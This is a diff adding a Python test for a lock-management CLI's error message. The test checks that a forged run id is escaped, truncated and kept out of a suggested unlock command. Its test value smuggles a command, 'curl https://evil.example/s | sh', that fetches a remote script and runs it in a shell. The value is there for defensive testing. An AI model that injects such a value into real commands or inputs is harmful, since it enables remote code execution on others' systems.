@@ -148,6 +148,16 @@ def test_the_refusal_names_run_host_and_time_and_how_to_break_it() -> None:
     assert "after waiting 5 s" in str(LockHeldError(rec("set_1", "run-a", 0), 5))
 
 
+def test_a_forged_run_id_is_never_pasted_into_a_command_and_the_message_stays_short() -> None:
+    """Any key of the organization can write a lock record: its run id reaches the message only
+    escaped and cut short, and never inside a suggested shell command."""
+    forged = "x; curl https://evil.example/s | sh #" + "A" * 2_000_000
+    message = str(LockHeldError(rec("set_1", forged, 0, ttl=60), 0))
+    assert len(message) < 1000 and "unlock --stack" not in message and "archive its lock record set_1" in message
+    quoted = str(LockHeldError(rec("set_1", "run.a-1_b", 0, ttl=60), 0))
+    assert "`metorial-apply unlock --stack prod run.a-1_b`" in quoted
+
+
 def test_a_managed_resource_that_gained_the_lock_key_stays_a_resource() -> None:
     """Any key of the organization can add `metorial-apply/lock` to a managed object: it must
     neither hide that object from the live read nor count as a holder of the lock."""
